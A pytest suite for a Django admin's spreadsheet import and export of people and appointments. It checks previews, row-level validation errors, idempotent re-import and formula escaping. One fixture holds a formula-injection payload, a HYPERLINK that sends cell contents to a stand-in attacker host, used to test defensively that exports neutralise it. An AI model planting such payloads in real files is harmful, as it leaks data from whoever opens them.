"""Spreadsheet import and export of people and appointments in the admin.

Through the real admin pages: upload, preview, confirm. A good CSV or XLSX file
imports; a file with one bad row imports nothing and the preview names the row
and the column; a file exported and imported again updates instead of adding;
exports escape cells a spreadsheet would run as formulas.
"""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from focalpoints import services
from focalpoints.choices import Role
from focalpoints.models import Appointment, Person
from network.models import Language, Organisation, Theme

pytestmark = pytest.mark.django_db

CSV_FORMAT, XLSX_FORMAT = "0", "1"  # the admin offers these two formats, in this order

PEOPLE_HEADER = [
    "id",
    "honorific",
    "given_name",
    "family_name",
    "email",
    "phone",
    "languages",
    "expertise",
    "bio",
    "public_listing",
    "verified_at",
]
APPOINTMENT_HEADER = [
    "id",
    "person",
    "person_name",
    "member",
    "role",
    "organisation",
    "position",
    "work_email",
    "phone",
    "start_on",
    "end_on",
    "source",
]


def csv_file(rows):
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return SimpleUploadedFile("people.csv", buffer.getvalue().encode(), "text/csv")


def xlsx_file(rows):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile("people.xlsx", buffer.getvalue())


def preview(client, model, upload, file_format=CSV_FORMAT):
    response = client.post(
        reverse(f"admin:focalpoints_{model}_import"),
        {"resource": "0", "format": file_format, "import_file": upload},
    )
    assert response.status_code == 200
    return response


def confirm(client, model, response):
    form = response.context.get("confirm_form")
    result = response.context["result"]
    problems = [row.error_dict for row in result.invalid_rows] + [
        (n, [str(e.error) for e in errors]) for n, errors in result.row_errors()
    ]
    assert form is not None, f"the preview offers no confirmation: {problems}"
    return client.post(reverse(f"admin:focalpoints_{model}_process_import"), form.initial)


def export(client, model, file_format=CSV_FORMAT):
    page = client.get(reverse(f"admin:focalpoints_{model}_export"))
    form = page.context["form"]
    data = {"format": file_format, "resource": "0"}
    data.update({name: "on" for name, field in form.fields.items() if field.initial is True})
    response = client.post(reverse(f"admin:focalpoints_{model}_export"), data)
    assert response.status_code == 200
    return response.content


def rows_of(content, file_format=CSV_FORMAT):
    if file_format == CSV_FORMAT:
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def snapshot():
    """Everything an import may write."""
    return (
        list(Person.objects.order_by("pk").values()),
        list(Appointment.objects.order_by("pk").values()),
        Person.history.count(),
        Appointment.history.count(),
    )


@pytest.fixture
def themes(db):
    Theme.objects.create(name="Climate change")
    return Theme.objects.create(name="Civil society engagement")


def test_good_csv_of_people_imports_after_the_preview(staff_client, themes):
    upload = csv_file(
        [
            PEOPLE_HEADER,
            [
                "",
                "Ms.",
                "Ana",
                "Ruiz Peña",
                "ana@example.org",
                "",
                "es,en",
                "climate-change",
                "",
                "1",
                "",
            ],
            ["", "Mr.", "Kofi", "Mensah", "", "", "", "", "Works on P/CVE.", "no", ""],
        ]
    )
    before = snapshot()

    response = preview(staff_client, "person", upload)

    assert "Ruiz Peña" in response.text
    assert snapshot() == before  # a preview writes nothing
    done = confirm(staff_client, "person", response)
    assert done.status_code == 302
    ana = Person.objects.get(family_name="Ruiz Peña")
    assert (ana.email, ana.public_listing) == ("ana@example.org", True)
    assert sorted(ana.languages.values_list("code", flat=True)) == ["en", "es"]
    assert list(ana.expertise.values_list("slug", flat=True)) == ["climate-change"]
    assert ana.public_listing_changed_at is not None  # consent is dated
    assert Person.objects.search("ruiz pena").get() == ana
    assert Person.objects.get(family_name="Mensah").public_listing is False


def test_good_xlsx_of_appointments_imports(staff_client, staff_user, adela, mary, spain, ecowas):
    ministry = Organisation.objects.create(name="Ministry of Foreign Affairs", member=spain)
    upload = xlsx_file(
        [
            APPOINTMENT_HEADER,
            [
                None,
                mary.pk,
                "",
                "ES",
                "Delegate",
                "ministry of foreign affairs",
                "",
                "",
                "",
                datetime.datetime(2017, 4, 26),
                None,
                "Chair's Summary",
            ],
            [
                None,
                adela.pk,
                "",
                "ecowas",
                "observer",
                None,
                "Guest",
                None,
                None,
                "2018-01-01",
                "2018-06-30",
                None,
            ],
        ]
    )

    response = preview(staff_client, "appointment", upload, XLSX_FORMAT)
    confirm(staff_client, "appointment", response)

    delegate = Appointment.objects.get(person=mary, role=Role.DELEGATE)
    assert (delegate.member, delegate.organisation, delegate.start_on) == (
        spain,
        ministry,
        datetime.date(2017, 4, 26),
    )
    observer = Appointment.objects.get(person=adela, role=Role.OBSERVER)
    assert (observer.member.acronym, observer.end_on) == ("ECOWAS", datetime.date(2018, 6, 30))
    assert delegate.history.get().history_user == staff_user


GOOD_POST = ["", "{mary}", "", "KE", "alternate", "", "", "", "", "2020-01-01", "", ""]

BAD_APPOINTMENT_ROWS = [
    ("unknown member code", {"member": "XX"}, "member", "No member has the code or name “XX”."),
    (
        "date backwards",
        {"start_on": "2020-01-01", "end_on": "2019-01-01"},
        "end_on",
        "An appointment must end after it starts.",
    ),
    (
        "duplicate current appointment",
        {"person": "{adela}", "member": "ES", "role": "focal_point"},
        "role",
        "Adela Díaz Bernárdez already holds this role for Spain in that period.",
    ),
    ("unknown role", {"role": "chair"}, "role", "“chair” is not a role"),
    ("malformed date", {"start_on": "26/04/2017"}, "start_on", "“26/04/2017” is not a date"),
    ("unknown person", {"person": "999999"}, "person", "No person has the id “999999”"),
    ("unknown id", {"id": "999999"}, "id", "No appointment has the id 999999"),
    ("bad email", {"work_email": "mary at kenya"}, "work_email", "Enter a valid email address."),
    (
        "unknown organisation",
        {"organisation": "Ministry of Magic"},
        "organisation",
        "No organisation is named",
    ),
    (
        "neither member nor organisation",
        {"member": ""},
        "member",
        "needs a member or an organisation",
    ),
]


def _row(template, people, **changes):
    row = dict(zip(APPOINTMENT_HEADER, template, strict=True)) | changes
    return [str(value).format(**people) for value in row.values()]


@pytest.mark.parametrize(("file_format"), [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
@pytest.mark.parametrize(
    ("change", "column", "message"),
    [case[1:] for case in BAD_APPOINTMENT_ROWS],
    ids=[case[0] for case in BAD_APPOINTMENT_ROWS],
)
def test_one_bad_row_imports_nothing_and_is_named_with_its_column(
    staff_client, adela, mary, spain, change, column, message, file_format
):
    people = {"adela": adela.pk, "mary": mary.pk}
    rows = [
        APPOINTMENT_HEADER,
        _row(GOOD_POST, people),
        _row(GOOD_POST, people, member="ES", role="delegate"),
        _row(GOOD_POST, people, **change),  # row 3
    ]
    upload = csv_file(rows) if file_format == CSV_FORMAT else xlsx_file(rows)
    before = snapshot()

    response = preview(staff_client, "appointment", upload, file_format)

    result = response.context["result"]
    assert [row.number for row in result.invalid_rows] == [3]
    # One message for the column: the cell's own, not also the model's objection
    # to the blank the unreadable cell left.
    [error] = result.invalid_rows[0].error_dict[column]
    assert message in error
    assert not result.has_errors()  # a named validation error, not a crash
    assert response.context.get("confirm_form") is None
    page = response.text
    assert "Some rows failed to validate: nothing can be imported" in page
    # Spreadsheet numbering: the header is row 1, so the third row of data is row 4.
    assert f"Row 4, <code>{column}</code>: " in page
    assert message in page
    assert snapshot() == before


@pytest.mark.parametrize(
    ("change", "column", "message"),
    [
        ({"languages": "es,xx"}, "languages", "Unknown: xx."),
        ({"expertise": "nonsense"}, "expertise", "Unknown: nonsense."),
        ({"public_listing": "maybe"}, "public_listing", "“maybe” is not yes or no"),
        ({"verified_at": "yesterday"}, "verified_at", "“yesterday” is not a date and time"),
        ({"given_name": ""}, "given_name", "This field cannot be blank."),
        ({"email": "nobody"}, "email", "Enter a valid email address."),
        ({"id": "abc"}, "id", "“abc” is not an id."),
    ],
)
def test_bad_person_row_imports_nothing_and_is_named(staff_client, themes, change, column, message):
    good = dict.fromkeys(PEOPLE_HEADER, "") | {"given_name": "Ana", "family_name": "Ruiz"}
    upload = csv_file([PEOPLE_HEADER, list(good.values()), list((good | change).values())])
    before = snapshot()

    response = preview(staff_client, "person", upload)

    invalid = response.context["result"].invalid_rows
    assert [row.number for row in invalid] == [2]
    assert any(message in error for error in invalid[0].error_dict[column]), invalid[0].error_dict
    assert response.context.get("confirm_form") is None
    assert snapshot() == before


def test_two_rows_of_one_file_cannot_open_the_same_post(staff_client, mary):
    post = _row(GOOD_POST, {"mary": mary.pk})
    response = preview(staff_client, "appointment", csv_file([APPOINTMENT_HEADER, post, post]))
    invalid = response.context["result"].invalid_rows
    assert [(row.number, list(row.error_dict)) for row in invalid] == [(2, ["role"])]
    assert Appointment.objects.count() == 1


def test_confirmation_imports_nothing_if_the_data_changed_since_the_preview(
    staff_client, adela, mary, kenya
):
    people = {"adela": adela.pk, "mary": mary.pk}
    upload = csv_file(
        [
            APPOINTMENT_HEADER,
            _row(GOOD_POST, people, member="ES", role="delegate"),
            _row(GOOD_POST, people),  # Mary, alternate for Kenya, from 2020
        ]
    )
    response = preview(staff_client, "appointment", upload)
    # Meanwhile someone makes Mary Kenya's alternate in the admin.
    services.appoint_person(mary, kenya, Role.ALTERNATE, start_on=datetime.date(2019, 1, 1))
    before = snapshot()

    done = confirm(staff_client, "appointment", response)

    assert done.status_code == 302
    assert done["Location"] == reverse("admin:focalpoints_appointment_import")
    assert snapshot() == before  # not even the good first row
    message = next(iter(done.wsgi_request._messages))
    assert "Nothing was imported: Row 3: role: Mary Kaburu already holds this role" in str(message)


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
def test_reimporting_an_export_updates_instead_of_duplicating(
    staff_client, adela, mary, themes, file_format
):
    adela.languages.set(Language.objects.filter(code__in=["es", "fr"]))
    services.set_expertise(adela, [themes])
    services.mark_verified(adela)
    services.end_appointment(mary.appointments.get(), on=datetime.date(2020, 1, 1))
    for model in ("person", "appointment"):
        content = export(staff_client, model, file_format)
        before = snapshot()

        unchanged = preview(
            staff_client,
            model,
            SimpleUploadedFile(f"x.{'csv' if file_format == CSV_FORMAT else 'xlsx'}", content),
            file_format,
        )
        confirm(staff_client, model, unchanged)

        assert unchanged.context["result"].totals == {
            "new": 0,
            "update": 0,
            "delete": 0,
            "skip": len(rows_of(content, file_format)) - 1,
            "error": 0,
            "invalid": 0,
        }
        assert snapshot() == before  # nothing added, nothing rewritten, no history


def test_reimporting_a_changed_export_updates_the_changed_row(staff_client, adela, mary):
    rows = rows_of(export(staff_client, "person"))
    header = rows[0]
    for row in rows[1:]:
        if row[header.index("id")] == str(adela.pk):
            row[header.index("phone")] = "+34 999 999 999"

    response = preview(staff_client, "person", csv_file(rows))
    assert response.context["result"].totals["update"] == 1
    confirm(staff_client, "person", response)

    assert Person.objects.count() == 2
    adela.refresh_from_db()
    assert adela.phone == "+34 999 999 999"
    assert adela.history.count() == 2


def test_people_export_has_the_documented_columns(staff_client, adela, themes):
    services.set_expertise(adela, [themes])
    rows = rows_of(export(staff_client, "person"))
    assert rows[0] == PEOPLE_HEADER
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["family_name"] == "Díaz Bernárdez"
    assert record["expertise"] == "civil-society-engagement"
    assert record["public_listing"] == "0"


def test_appointments_export_has_the_documented_columns(staff_client, adela):
    rows = rows_of(export(staff_client, "appointment", XLSX_FORMAT), XLSX_FORMAT)
    assert rows[0] == APPOINTMENT_HEADER
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["person"] == str(adela.pk) or record["person"] == adela.pk
    assert record["person_name"] == "Adela Díaz Bernárdez"
    assert (record["member"], record["role"]) == ("ES", "focal_point")
    assert record["start_on"] == datetime.datetime(2016, 9, 23)  # a real date cell


DANGEROUS = {
    "bio": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "phone": "+34 600 000 000",
    "honorific": "@SUM(1+1)",
    "family_name": "-2+3",
}


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
def test_export_escapes_formulae_and_reimport_restores_the_text(staff_client, adela, file_format):
    Person.objects.filter(pk=adela.pk).update(**DANGEROUS)

    content = export(staff_client, "person", file_format)

    rows = rows_of(content, file_format)
    record = dict(zip(rows[0], rows[1], strict=True))
    for column, value in DANGEROUS.items():
        assert record[column] == "'" + value
    if file_format == XLSX_FORMAT:
        cells = openpyxl.load_workbook(io.BytesIO(content)).active[2]
        assert all(cell.data_type != "f" for cell in cells)  # no live formula
    upload = SimpleUploadedFile(
        "again." + ("csv" if file_format == CSV_FORMAT else "xlsx"), content
    )
    response = preview(staff_client, "person", upload, file_format)
    assert response.context["result"].totals["skip"] == 1  # the text came back unchanged
    adela.refresh_from_db()
    assert adela.bio == DANGEROUS["bio"]


def test_xlsx_export_survives_control_characters_pasted_into_a_field(staff_client, adela):
    Person.objects.filter(pk=adela.pk).update(bio="Copied from a PDF\x0bwith a vertical tab")
    rows = rows_of(export(staff_client, "person", XLSX_FORMAT), XLSX_FORMAT)
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["bio"] == "Copied from a PDF\ufffdwith a vertical tab"
